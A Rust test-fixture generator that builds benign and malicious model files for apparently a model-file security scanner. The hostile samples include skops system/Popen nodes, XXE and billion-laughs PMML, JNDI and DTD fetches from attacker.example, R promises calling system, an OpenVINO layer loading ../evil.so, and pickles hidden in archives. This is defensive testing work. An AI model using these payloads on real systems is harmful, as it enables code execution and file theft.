//! Models of tables and other formats: skops, gradient boosting, PMML, OpenVINO, R, Flax, Zarr, programs, RAR.

use crate::Samples;
use crate::archive_asm::stored_zip;
use crate::numpy::echo;

fn node(module: &str, class: &str, loader: &str, more: &str) -> String {
    format!("{{\"__class__\":\"{class}\",\"__module__\":\"{module}\",\"__loader__\":\"{loader}\"{more}}}")
}

fn skops(content: &str) -> Vec<u8> {
    let more = format!(",\"content\":{content},\"protocol\":2,\"_skops_version\":\"0.11.0\"");
    let schema = node("sklearn.pipeline", "Pipeline", "ObjectNode", &more);
    stored_zip(&[("schema.json", schema.as_bytes())])
}

/// A number of R's XDR layout, and a text with its length.
fn r_text(out: &mut Vec<u8>, text: &str) {
    out.extend(9_u32.to_be_bytes());
    out.extend((text.len() as u32).to_be_bytes());
    out.extend(text.as_bytes());
}

fn words(out: &mut Vec<u8>, words: &[u32]) {
    for word in words {
        out.extend(word.to_be_bytes());
    }
}

const R_HEAD: [u32; 3] = [2, 0x0004_0202, 0x0002_0300];

/// The call `function("text")`.
fn r_call(out: &mut Vec<u8>, function: &str, text: &str) {
    words(out, &[6, 1]);
    r_text(out, function);
    words(out, &[2, 16, 1]);
    r_text(out, text);
    words(out, &[254]);
}

/// A promise in a file of its own: not kept yet, or with a value.
fn r_promise(function: &str, is_open: bool) -> Vec<u8> {
    let mut out = b"X\n".to_vec();
    words(&mut out, &R_HEAD);
    words(&mut out, &[5, if is_open { 252 } else { 254 }]);
    r_call(&mut out, function, "echo weighbridge");
    out
}

/// A function without parameters, with the global environment.
fn r_function(out: &mut Vec<u8>, function: &str) {
    words(out, &[3 | 1 << 10, 253, 254]);
    r_call(out, function, "echo weighbridge");
}

/// A workspace that binds a name to such a function.
fn r_workspace(name: &str, function: &str) -> Vec<u8> {
    let mut out = b"RDX2\nX\n".to_vec();
    words(&mut out, &R_HEAD);
    words(&mut out, &[2 | 1 << 10, 1]);
    r_text(&mut out, name);
    r_function(&mut out, function);
    words(&mut out, &[254]);
    out
}

/// An environment with an active binding.
fn r_active(function: &str) -> Vec<u8> {
    let mut out = b"X\n".to_vec();
    words(&mut out, &R_HEAD);
    words(&mut out, &[4, 0, 253, 2 | 1 << 10 | 1 << 27, 1]);
    r_text(&mut out, "weights");
    r_function(&mut out, function);
    words(&mut out, &[254, 254, 254]);
    out
}

/// A compact vector of a class.
fn r_compact(class: &str) -> Vec<u8> {
    let mut out = b"X\n".to_vec();
    words(&mut out, &[3, 0x0004_0202, 0x0003_0500, 5]);
    out.extend(b"UTF-8");
    words(&mut out, &[238, 2, 1]);
    r_text(&mut out, class);
    words(&mut out, &[2, 1]);
    r_text(&mut out, "base");
    words(&mut out, &[2, 13, 1, 13, 254, 254, 254]);
    out
}

fn pmml(doctype: &str, body: &str) -> String {
    format!("<?xml version=\"1.0\"?>\n{doctype}<PMML version=\"4.4\"><Header/>{body}</PMML>\n")
}

fn openvino(layer: &str) -> String {
    format!("<?xml version=\"1.0\"?>\n<net name=\"x\" version=\"11\"><layers>{layer}</layers></net>\n")
}

fn constant(offset: &str, size: &str) -> String {
    openvino(&format!(
        "<layer id=\"0\" name=\"w\" type=\"Const\" version=\"opset1\">\
         <data element_type=\"f32\" shape=\"2, 2\" offset=\"{offset}\" size=\"{size}\"/></layer>"
    ))
}

fn xgboost(left: &str) -> String {
    format!(
        "{{\"learner\":{{\"attributes\":{{}},\"feature_names\":[],\"gradient_booster\":{{\"model\":{{\"trees\":[{{\
         \"left_children\":{left},\"right_children\":[2,-1,-1],\"split_indices\":[0,0,0],\
         \"tree_param\":{{\"num_nodes\":\"3\",\"num_feature\":\"1\"}}}}]}},\"name\":\"gbtree\"}}}},\"version\":[3,2,0]}}"
    )
}

fn lightgbm(left: &str, parameters: &str) -> String {
    format!(
        "tree\nversion=v4\nnum_class=1\nmax_feature_idx=1\nobjective=binary\n\nTree=0\nnum_leaves=3\nsplit_feature=0 1\n\
         left_child={left}\nright_child=-2 -3\n\n\nend of trees\n\nparameters:\n{parameters}end of parameters\n"
    )
}

fn flax(kind: &str, count: u8, data: &[u8]) -> Vec<u8> {
    let mut array = vec![0x93, 0x91, count, 0xa0 | kind.len() as u8];
    array.extend(kind.bytes());
    array.extend([0xc4, data.len() as u8]);
    array.extend(data);
    let mut out = vec![0x81, 0xa1, b'w', 0xc7, array.len() as u8, 1];
    out.extend(array);
    out
}

/// An ELF header without segments and sections, as long as the image.
fn elf() -> Vec<u8> {
    let mut out = b"\x7fELF\x02\x01\x01".to_vec();
    out.resize(64, 0);
    out[16] = 2;
    out[18] = 62;
    out[20] = 1;
    out[32] = 64;
    out[40] = 64;
    out[52] = 64;
    out[54] = 56;
    out[58] = 64;
    out
}

/// A RAR archive of version 5 with one stored member.
fn rar(name: &str, data: &[u8]) -> Vec<u8> {
    crate::archive_asm::rar(name, data, 0)
}

/// Collects the samples of this family.
pub fn samples(out: &mut Samples) {
    skops_samples(out);
    xml_samples(out);
    tree_samples(out);
    r_samples(out);
    other_samples(out);
}

fn skops_samples(out: &mut Samples) {
    let plain = skops(&node(
        "builtins",
        "dict",
        "DictNode",
        ",\"content\":{},\"key_types\":[]",
    ));
    let system = skops(&node("posix", "system", "FunctionNode", ""));
    let reduce = skops(&node(
        "subprocess",
        "Popen",
        "ConstructorFromReduceNode",
        ",\"content\":{}",
    ));
    let old = ",\"content\":{\"module_path\":\"os\",\"function\":\"system\"}";
    let old = skops(&node("builtins", "function", "FunctionNode", old));
    let operator = skops(&node(
        "sklearn.linear_model",
        "call",
        "OperatorFuncNode",
        ",\"attrs\":{}",
    ));
    let inner = node("os", "PathLike", "ObjectNode", "");
    let method = format!(",\"content\":{{\"func\":\"__init_subclass__\",\"obj\":{inner}}}");
    let method = skops(&node("sklearn.base", "BaseEstimator", "MethodNode", &method));
    let state = "{\"content\":{\"bit_generator\":{\"content\":\"\\\"set_bit_generator\\\"\"}}}";
    let state = format!(",\"content\":{{\"bit_generator\":{state}}}");
    let generator = skops(&node(
        "numpy.random._generator",
        "Generator",
        "RandomGeneratorNode",
        &state,
    ));
    let id = "model-skops-dangerous-type";
    out.fires(id, "function.skops", system.clone());
    out.silent(id, "plain.skops", plain.clone());
    out.fires("model-skops-hides-type", "operator.skops", operator.clone());
    out.fires("model-skops-hides-type", "generator.skops", generator);
    let getter = skops(&node(
        "operator",
        "attrgetter",
        "OperatorFuncNode",
        ",\"attrs\":{}",
    ));
    out.silent("model-skops-hides-type", "getter.skops", getter);
    let twice = skops(&node("os", "x", "ObjectNode", ",\"__module__\":\"sklearn.base\""));
    out.fires("model-skops-hides-type", "repeated-key.skops", twice);
    let own = skops(&node("company.models", "Scaler", "ObjectNode", ""));
    out.fires("model-skops-unreviewed-type", "own.skops", own);
    out.silent("model-skops-unreviewed-type", "plain.skops", plain.clone());
    out.fires("model-skops-pickle", "pickle.skops", echo());
    out.silent("model-skops-pickle", "plain.skops", plain);
    out.attack(
        "60-skops-function",
        "function.skops",
        system,
        &["model-skops-dangerous-type"],
    );
    out.attack(
        "60-skops-function",
        "protocol-0.bin",
        old,
        &["model-skops-dangerous-type"],
    );
    out.attack(
        "60-skops-function",
        "constructor.skops",
        reduce,
        &["model-skops-dangerous-type"],
    );
    out.attack(
        "61-skops-hidden-type",
        "operator.skops",
        operator,
        &["model-skops-hides-type"],
    );
    out.attack(
        "61-skops-hidden-type",
        "method.skops",
        method,
        &["model-skops-hides-type"],
    );
    out.attack(
        "62-skops-joblib-fallback",
        "model.skops",
        echo(),
        &["model-skops-pickle"],
    );
}

fn xml_samples(out: &mut Samples) {
    let file = "<!DOCTYPE PMML [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>\n";
    let external = pmml(file, "<Header description=\"d\">&x;</Header>");
    let parameter = pmml(
        "<!DOCTYPE PMML [<!ENTITY % x SYSTEM \"http://attacker.example/x.dtd\"> %x;]>\n",
        "",
    );
    let mut bomb = "<!DOCTYPE PMML [<!ENTITY a0 \"lol\">".to_owned();
    for level in 1..10 {
        let inner = format!("&a{};", level - 1).repeat(10);
        bomb.push_str(&format!("<!ENTITY a{level} \"{inner}\">"));
    }
    let bomb = pmml(&format!("{bomb}]>\n"), "<Extension name=\"x\">&a9;</Extension>");
    let published = "<!DOCTYPE PMML SYSTEM \"http://www.dmg.org/v2-0/pmml_v2_0.dtd\">\n";
    let plain = pmml(published, "<TreeModel functionName=\"regression\"/>");
    let wide: Vec<u8> = external.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let style = pmml(
        "<?xml-stylesheet type=\"text/xsl\" href=\"http://attacker.example/x.xsl\"?>\n",
        "",
    );
    let hidden = "<?xml version=\"1.0\" encoding=\"UTF-7\"?>\n<PMML version=\"4.4\"/>\n";
    out.fires("file-xml-external", "entity.pmml", external.clone());
    out.silent("file-xml-external", "published.pmml", plain.clone());
    out.fires("file-xml-entity-bomb", "laughs.pmml", bomb.clone());
    out.silent(
        "file-xml-entity-bomb",
        "plain.pmml",
        pmml("<!DOCTYPE PMML [<!ENTITY a \"b\">]>\n", "&a;"),
    );
    out.fires("file-xml-style-sheet", "style.pmml", style);
    out.silent("file-xml-style-sheet", "plain.pmml", plain.clone());
    out.fires("file-xml-encoding-hides", "utf-7.pmml", hidden);
    out.silent("file-xml-encoding-hides", "plain.pmml", plain.clone());
    let lookup = pmml(
        "",
        "<Extension name=\"x\" value=\"${${lower:j}ndi:ldap://attacker.example/x}\"/>",
    );
    out.fires("model-pmml-lookup", "jndi.pmml", lookup.clone());
    out.silent(
        "model-pmml-lookup",
        "price.pmml",
        pmml("", "<Extension name=\"cost\" value=\"${price}\"/>"),
    );
    let class = "<TransformationDictionary><Apply function=\"com.example.Run\"/></TransformationDictionary>";
    out.fires("model-pmml-java-function", "class.pmml", pmml("", class));
    let defined = "<TransformationDictionary><DefineFunction name=\"a.b\"/><Apply function=\"a.b\"/></TransformationDictionary>";
    out.silent("model-pmml-java-function", "defined.pmml", pmml("", defined));
    out.attack(
        "63-xml-external-entity",
        "entity.pmml",
        external,
        &["file-xml-external"],
    );
    out.attack(
        "63-xml-external-entity",
        "parameter.xml",
        parameter,
        &["file-xml-external"],
    );
    out.attack(
        "63-xml-external-entity",
        "utf-16.pmml",
        wide,
        &["file-xml-external"],
    );
    out.attack(
        "64-xml-entity-bomb",
        "laughs.pmml",
        bomb,
        &["file-xml-entity-bomb"],
    );
    out.attack("65-pmml-lookup", "jndi.pmml", lookup, &["model-pmml-lookup"]);

    let include =
        openvino("<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"/etc/hostname\"/>");
    out.attack(
        "63-xml-external-entity",
        "include.xml",
        include,
        &["file-xml-external"],
    );
    let own = openvino("<layer id=\"0\" name=\"x\" type=\"Mine\" version=\"company\"/>");
    out.fires("model-openvino-custom-op", "own.xml", own);
    let tokenizer = openvino("<layer id=\"0\" name=\"x\" type=\"BPETokenizer\" version=\"extension\"/>");
    out.silent("model-openvino-custom-op", "tokenizer.xml", tokenizer);
    let library =
        "<layer id=\"0\" name=\"x\" type=\"Relu\" version=\"opset1\"><data library=\"../evil.so\"/></layer>";
    out.fires("model-openvino-leads-outside", "library.xml", openvino(library));
    out.attack(
        "66-openvino-library",
        "model.xml",
        openvino(library),
        &["model-openvino-leads-outside"],
    );
    out.silent(
        "model-openvino-leads-outside",
        "constant.xml",
        constant("0", "16"),
    );
    let broken = constant("18446744073709551600", "32");
    out.fires("model-openvino-weights-broken", "overflow.xml", broken.clone());
    out.fires(
        "model-openvino-weights-broken",
        "shape.xml",
        constant("0", "4096"),
    );
    out.silent(
        "model-openvino-weights-broken",
        "constant.xml",
        constant("0", "16"),
    );
    out.attack(
        "67-openvino-weights",
        "overflow.xml",
        broken,
        &["model-openvino-weights-broken"],
    );
    for (folder, size) in [("fires", 8), ("silent", 16)] {
        let id = "model-openvino-weights-overrun";
        let files = [
            ("model/model.xml", constant("0", "16").into_bytes()),
            ("model/model.bin", vec![1; size]),
        ];
        for (name, bytes) in files {
            if folder == "fires" {
                out.fires(id, name, bytes);
            } else {
                out.silent(id, name, bytes);
            }
        }
    }
}

fn tree_samples(out: &mut Samples) {
    let (good, bad) = (xgboost("[1,-1,-1]"), xgboost("[1000000,-1,-1]"));
    let id = "model-tree-out-of-range";
    out.fires(id, "children.json", bad.clone());
    out.fires(id, "short.json", xgboost("[1]"));
    out.silent(id, "tree.json", good.clone());
    out.fires(id, "lightgbm.txt", lightgbm("99 -1", ""));
    out.silent(id, "lightgbm.txt", lightgbm("1 -1", ""));
    out.attack(
        "68-tree-out-of-range",
        "xgboost.json",
        bad,
        &["model-tree-out-of-range"],
    );
    out.attack(
        "68-tree-out-of-range",
        "lightgbm.txt",
        lightgbm("99 -1", ""),
        &["model-tree-out-of-range"],
    );
    let mut behind = good.clone().into_bytes();
    behind.extend(echo());
    out.fires("model-trailing-bytes", "pickle-behind.json", behind.clone());
    out.silent("model-trailing-bytes", "newline.json", format!("{good}\n"));
    out.attack(
        "69-pickle-behind-model",
        "model.ubj",
        behind,
        &["model-trailing-bytes"],
    );
    let id = "model-lightgbm-names-files";
    out.fires(
        id,
        "data.txt",
        lightgbm("1 -1", "[data: /home/alice/train.csv]\n"),
    );
    out.silent(id, "empty.txt", lightgbm("1 -1", "[data: ]\n[boosting: gbdt]\n"));
    let mut cbm = b"CBM1".to_vec();
    cbm.extend(u32::MAX.to_le_bytes());
    cbm.extend([0; 32]);
    out.attack("70-catboost-core", "outside.cbm", cbm, &["file-malformed"]);
}

fn r_samples(out: &mut Samples) {
    let open = r_promise("system", true);
    out.fires("model-r-promise-runs-code", "system.rds", open.clone());
    out.silent(
        "model-r-promise-runs-code",
        "kept.rds",
        r_promise("system", false),
    );
    out.attack(
        "71-r-promise",
        "system.rds",
        open.clone(),
        &["model-r-promise-runs-code"],
    );
    out.attack(
        "71-r-promise",
        "eval.bin",
        r_promise("eval", true),
        &["model-r-promise-runs-code"],
    );
    let text = "A\n2\n262658\n131840\n5\n252\n6\n1\n9\n6\nsystem\n2\n16\n1\n9\n4\necho\n254\n";
    out.attack("71-r-promise", "text.rds", text, &["model-r-promise-runs-code"]);
    out.attack(
        "71-r-promise",
        "packed.rds",
        crate::containers::gzip(&open),
        &["model-r-promise-runs-code"],
    );
    out.fires("model-r-open-promise", "mean.rds", r_promise("mean", true));
    out.silent("model-r-open-promise", "kept.rds", r_promise("mean", false));
    out.fires("model-r-active-binding", "system.rds", r_active("system"));
    out.silent("model-r-active-binding", "mean.rds", r_active("mean"));
    out.attack(
        "72-r-active-binding",
        "system.rds",
        r_active("system"),
        &["model-r-active-binding"],
    );
    out.fires("model-r-start-up", "first.RData", r_workspace(".First", "print"));
    out.silent("model-r-start-up", "model.RData", r_workspace("model", "print"));
    out.attack(
        "73-r-start-up",
        "image.RData",
        r_workspace(".First", "system"),
        &["model-r-start-up"],
    );
    out.fires(
        "model-r-masks-function",
        "library.RData",
        r_workspace("library", "print"),
    );
    out.silent(
        "model-r-masks-function",
        "model.RData",
        r_workspace("model", "print"),
    );
    out.fires(
        "model-r-function-dangerous",
        "system.RData",
        r_workspace("predict_it", "system"),
    );
    out.silent(
        "model-r-function-dangerous",
        "print.RData",
        r_workspace("predict_it", "print"),
    );
    out.fires("model-r-maps-file", "mmap.rds", r_compact("mmap_integer"));
    out.silent("model-r-maps-file", "sequence.rds", r_compact("compact_intseq"));
    out.attack(
        "74-r-mapped-file",
        "mmap.rds",
        r_compact("mmap_real"),
        &["model-r-maps-file"],
    );
}

fn other_samples(out: &mut Samples) {
    let id = "model-flax-array-odd";
    out.fires(id, "short.msgpack", flax("float32", 4, &[0; 4]));
    out.fires(id, "objects.msgpack", flax("object", 1, &[0; 8]));
    out.silent(id, "array.msgpack", flax("float32", 1, &[0; 4]));
    let mut hidden = b"\x81\xa1w\xc4".to_vec();
    hidden.push(echo().len() as u8);
    hidden.extend(echo());
    out.attack(
        "75-pickle-in-msgpack",
        "flax_model.msgpack",
        hidden,
        &["model-pickle-runs-commands"],
    );
    let zarr = |codec: &str| {
        format!(
            "{{\"zarr_format\": 2, \"shape\": [1], \"chunks\": [1], \"dtype\": \"|O\", \"compressor\": null, \
             \"fill_value\": null, \"order\": \"C\", \"filters\": [{{\"id\": \"{codec}\"}}]}}"
        )
    };
    let id = "model-zarr-pickle-codec";
    out.fires(id, "x/.zarray", zarr("pickle"));
    out.silent(id, "x/.zarray", zarr("vlen-utf8"));
    out.attack(
        "76-zarr-pickle",
        "x/.zarray",
        zarr("pickle"),
        &["model-zarr-pickle-codec"],
    );
    let mut program = elf();
    program.extend(b"GGUF\x03\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0");
    let id = "file-program-carries-files";
    out.fires(id, "weights.llamafile", program);
    out.silent(id, "plain.run", elf());
    let mut script = b"#!/bin/sh\n# Made by Makeself\nskip=\"4\"\nexit 0\n".to_vec();
    script.extend(crate::containers::gzip(&echo()));
    out.fires(id, "install.run", script.clone());
    out.attack(
        "77-program-carries-pickle",
        "install.run",
        script,
        &["model-pickle-runs-commands"],
    );
    let mut carried = elf();
    carried.extend(stored_zip(&[("model.pkl", &echo())]));
    out.attack(
        "77-program-carries-pickle",
        "model.llamafile",
        carried,
        &["model-pickle-runs-commands"],
    );
    out.fires("file-archive-leads-outside", "climbs.rar", rar("../x", b"x"));
    out.attack(
        "78-rar-stored-pickle",
        "model.rar",
        rar("model.pkl", &echo()),
        &["model-pickle-runs-commands"],
    );
}
